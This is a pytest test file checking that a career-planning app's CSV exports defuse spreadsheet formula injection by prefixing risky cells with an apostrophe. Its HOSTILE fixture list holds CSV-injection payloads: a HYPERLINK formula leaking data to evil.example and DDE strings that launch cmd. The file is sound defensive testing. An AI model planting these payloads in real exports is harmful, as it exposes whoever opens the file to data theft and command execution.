"""CSV plan exports never carry a formula into a spreadsheet (OWASP "CSV injection").

A note is the person's own text, and a plan may be shared or opened by someone else: a cell
that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip before
reading a formula) gets an apostrophe in front, so it is shown as text and never evaluated.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import msgspec
import pytest

from aicareers.engine.plans.model import ProgressEvent
from aicareers.engine.plans.progress import summarize
from aicareers.export import export_plan
from aicareers.export.table import inert

from .plan_samples import at, sample_plan
from .test_plan_timeline import v2_plan

D = dt.date
NOW = dt.datetime(2026, 1, 27, 9, 30, tzinfo=dt.UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_with_note(note: str, title: str = "Python for data work") -> list[dict[str, str]]:
    plan = sample_plan(first_title=title)
    events = [ProgressEvent(seq=1, step="py", status="done", at=at(D(2026, 1, 10)), note=note)]
    text = export_plan("csv", 7, plan, summarize(plan, events, D(2026, 1, 27)), now=NOW)
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("note", HOSTILE)
def test_a_formula_in_a_note_is_exported_as_text(note: str) -> None:
    cell = rows_with_note(note)[0]["note"]
    assert cell == "'" + note  # the whole text kept, behind the apostrophe
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_every_column_is_neutralised_not_only_notes() -> None:
    row = rows_with_note("fine", title="=1+2")[0]
    assert row["title"] == "'=1+2"
    assert row["note"] == "fine"


@pytest.mark.parametrize(
    "text",
    ["loved it", "", "2026-01-12", "https://example.org/py", "a = b", "C++ then C#", "'quoted"],
)
def test_ordinary_cells_are_unchanged(text: str) -> None:
    assert inert(text) == text
    assert rows_with_note(text)[0]["note"] == text


def test_dates_hours_and_urls_of_a_real_plan_are_untouched() -> None:
    row = rows_with_note("ok")[0]
    assert (row["hours"], row["due"], row["resources"]) == (
        "6", "2026-01-12", "https://example.org/py",
    )  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_version_2_plan_is_guarded_too(text: str) -> None:
    plan = v2_plan(first_title=text)
    plan = msgspec.structs.replace(
        plan, milestones=(msgspec.structs.replace(plan.milestones[0], title=text),
                          *plan.milestones[1:]),
    )  # fmt: skip
    events = [ProgressEvent(seq=1, step="ml", status="done", at=at(D(2026, 2, 1)), note=text)]
    progress = summarize(plan, events, D(2026, 2, 2))
    rows = list(csv.DictReader(io.StringIO(export_plan("csv", 7, plan, progress, now=NOW),
                                           newline="")))  # fmt: skip
    cells = {(r["id"], column): r[column] for r in rows for column in ("title", "note")}
    assert cells[("py", "title")] == "'" + text
    assert cells[("ml", "note")] == "'" + text
    assert cells[("first-project", "title")] == "'" + text
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.values())
